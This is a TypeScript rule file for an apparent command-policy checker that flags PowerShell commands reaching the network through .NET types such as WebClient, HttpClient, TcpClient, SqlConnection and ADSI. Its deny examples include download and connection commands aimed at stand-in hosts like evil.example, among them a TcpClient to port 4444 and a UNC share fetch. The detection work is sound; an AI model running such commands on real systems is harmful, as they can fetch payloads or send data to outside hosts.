// egress.dotnet: PowerShell reaching the network through a .NET type rather than a cmdlet.
import type { Finding } from '../types.js';
import { compile } from './compiled.js';
import type { Rule } from './rule.js';

const PS = 'powershell' as const;

// Types whose construction or static use opens a connection, lower-cased without `system.`.
const NETWORK_TYPES = [
  'net.webclient',
  'net.http.httpclient',
  'net.http.httpclienthandler',
  'net.http.socketshttphandler',
  'net.webrequest',
  'net.httpwebrequest',
  'net.ftpwebrequest',
  'net.sockets.tcpclient',
  'net.sockets.udpclient',
  'net.sockets.socket',
  'net.sockets.tcplistener',
  'net.websockets.clientwebsocket',
  'net.mail.smtpclient',
  'net.dns',
  'net.networkinformation.ping',
  'net.httplistener',
  'net.quic.quicconnection',
  'net.quic.quiclistener',
  // XML's resolver fetches the URI GetEntity is given; the WinForms browser control loads the page it navigates to.
  'xml.xmlurlresolver',
  'xml.xmlsecureresolver',
  'windows.forms.webbrowser',
  // VB's My.Computer.Network: DownloadFile, UploadFile, Ping.
  'microsoft.visualbasic.devices.network',
  // Database connections open a session with the server their connection string names, as psql and mysql do.
  'data.sqlclient.sqlconnection',
  'microsoft.data.sqlclient.sqlconnection',
  'data.odbc.odbcconnection',
  'data.oledb.oledbconnection',
  // LDAP: a directory entry binds to the server its path names (`[adsi]'LDAP://host/…'`), a searcher to the domain's.
  'directoryservices.directoryentry',
  'directoryservices.directorysearcher',
  'directoryservices.protocols.ldapconnection',
  'adsi',
  'adsisearcher',
];

/** The network type `type` names, written in full or as a suffix after `using namespace` (`webclient`). */
function networkType(type: string): string | undefined {
  const t = type.toLowerCase().replace(/^system\./, '');
  return NETWORK_TYPES.find((n) => n === t || n.endsWith('.' + t));
}

export const egressDotnet: Rule = {
  id: 'egress.dotnet',
  kind: 'egress',
  description: 'PowerShell constructs or calls a .NET network type (WebClient, HttpClient, WebRequest, TcpClient, Socket…).',
  examples: {
    deny: [
      { command: '(New-Object System.Net.WebClient).DownloadString("https://example.com")', shell: PS },
      { command: '(New-Object Net.WebClient).DownloadFile("https://example.com/a", "a")', shell: PS },
      { command: '[System.Net.WebClient]::new().DownloadString("https://example.com")', shell: PS },
      { command: "$wc = New-Object Net.WebClient; $wc.DownloadString('http://localhost:8080/')", shell: PS },
      { command: "(New-Object Net.WebClient).DownloadString('http://localhost@evil.example/')", shell: PS },
      { command: '$c = [Net.Http.HttpClient]::new(); $c.GetStringAsync("https://example.com")', shell: PS },
      { command: '[System.Net.WebRequest]::Create("https://example.com").GetResponse()', shell: PS },
      { command: '[Net.HttpWebRequest]::Create("https://example.com")', shell: PS },
      { command: '$t = New-Object System.Net.Sockets.TcpClient("example.com", 4444)', shell: PS },
      { command: '[Net.Sockets.TcpClient]::new("10.0.0.1", 443)', shell: PS },
      { command: 'New-Object System.Net.Sockets.UdpClient', shell: PS },
      { command: 'New-Object Net.Sockets.Socket([Net.Sockets.AddressFamily]::InterNetwork, "Stream", "Tcp")', shell: PS },
      { command: '[System.Net.Dns]::GetHostAddresses("data.example.com")', shell: PS },
      { command: "$x = New-Object Xml.XmlDocument; $x.Load('http://evil.example/a.xml')", shell: PS },
      { command: "[Xml.XmlReader]::Create('https://evil.example/a.xml')", shell: PS },
      { command: "[Xml.Linq.XDocument]::Load('\\\\evil.example\\share\\a.xml')", shell: PS },
      { command: 'New-Object -TypeName System.Net.WebClient', shell: PS },
      { command: "(New-Object Data.SqlClient.SqlConnection 'Server=evil.example;Database=x').Open()", shell: PS },
      { command: "$c = [Data.SqlClient.SqlConnection]::new('Server=localhost;Failover Partner=evil.example;Database=x'); $c.Open()", shell: PS },
      { command: "$c = [Data.SqlClient.SqlConnection]::new('Server=localhost'); $c.ConnectionString = 'Server=evil.example'; $c.Open()", shell: PS },
      { command: "[adsi]'LDAP://evil.example/DC=x'", shell: PS },
      { command: "(New-Object Microsoft.VisualBasic.Devices.Network).DownloadFile('https://evil.example/x', 'x')", shell: PS },
    ],
    pass: [
      { command: 'New-Object System.Collections.ArrayList', shell: PS },
      { command: '[System.IO.File]::ReadAllText("notes.txt")', shell: PS },
      { command: '[Math]::Round(2.5)', shell: PS },
      { command: 'Write-Host "System.Net.WebClient"', shell: PS },
      { command: '[System.Text.Encoding]::UTF8.GetBytes("x")', shell: PS },
      { command: 'New-Object -TypeName PSObject -Property @{ a = 1 }', shell: PS },
      { command: '[DateTime]::Now', shell: PS },
      { command: 'Get-Help New-Object', shell: PS },
      { command: '[System.Uri]::new("https://example.com").Host', shell: PS },
      { command: "(New-Object Net.WebClient).DownloadString('http://localhost:8080/')", shell: PS },
      { command: "[Net.Http.HttpClient]::new().GetStringAsync('http://127.0.0.1:3000/health').Result", shell: PS },
      { command: '[Net.IPAddress]::Parse("10.0.0.1")', shell: PS },
      { command: "$x = New-Object Xml.XmlDocument; $x.Load('config.xml')", shell: PS },
      { command: "[xml](Get-Content app.config)", shell: PS },
      { command: '# [Net.WebClient]::new()', shell: PS },
      { command: "New-Object Data.DataTable 'Users'", shell: PS },
      { command: "$c = [System.Data.SqlClient.SqlConnection]::new('Server=localhost;Database=x;Integrated Security=true'); $c.Open()", shell: PS },
      { command: "(New-Object Data.SqlClient.SqlConnection 'Data Source=(localdb)\\MSSQLLocalDB;Initial Catalog=app').Open()", shell: PS },
      { command: "[Microsoft.VisualBasic.Strings]::StrReverse('abc')", shell: PS },
    ],
  },
  check({ analysis, config }) {
    const findings: Finding[] = [];
    const { hosts } = compile(config);
    // A client built and used once where its URI is static, every destination allowed (a dev server on loopback).
    const allowedAt = (analysis.clientCalls ?? []).filter((c) => c.destinations.length > 0 && c.destinations.every((d) => d.host !== undefined && hosts.allows(d.host) !== undefined));
    for (const use of analysis.typeUses) {
      if (use.remote !== undefined) {
        const finding: Finding = { rule: 'egress.dotnet', kind: 'egress', message: use.type === 'io.pipes.namedpipeclientstream' ? `a NamedPipeClientStream opens a pipe on another machine (${use.remote}), over the network` : /^[\\/]{2}/.test(use.remote) ? `.${use.member ?? 'new'}(${use.remote}) reaches a path on another machine, over SMB` : `.${use.member ?? 'load'}(${use.remote}) fetches a document from another machine (.NET resolves the URL)`, span: use.span };
        if (use.segment !== undefined) finding.segment = use.segment;
        findings.push(finding);
        continue;
      }
      const hit = networkType(use.type);
      if (hit === undefined) continue;
      // A SQL Server connection whose static connection string names only allowed hosts (`Server=localhost`, `(local)`,
      // `.\SQLEXPRESS`), on a line that cannot aim it elsewhere afterwards (see Analysis.retargets).
      if (/sqlclient\.sqlconnection$/.test(hit) && use.servers?.every((h) => hosts.allows(h) !== undefined) === true && analysis.retargets !== true && !/connectionstring|psobject|reflection|gettype|getproperty|setvalue|invokemember|\$\w+\.[$("'(]/i.test(analysis.command)) continue;
      if (/^net\.(webclient|http\.httpclient)$/.test(hit) && allowedAt.some((c) => c.within.start <= use.span.start && use.span.end <= c.within.end)) continue;
      const how = use.member === undefined ? 'New-Object' : use.member === 'new' ? '::new()' : `::${use.member}`;
      const finding: Finding = {
        rule: 'egress.dotnet',
        kind: 'egress',
        message: `System.${hit} reaches the network (${how} on a .NET network type)`,
        span: use.span,
      };
      if (use.segment !== undefined) finding.segment = use.segment;
      findings.push(finding);
    }
    return findings;
  },
};
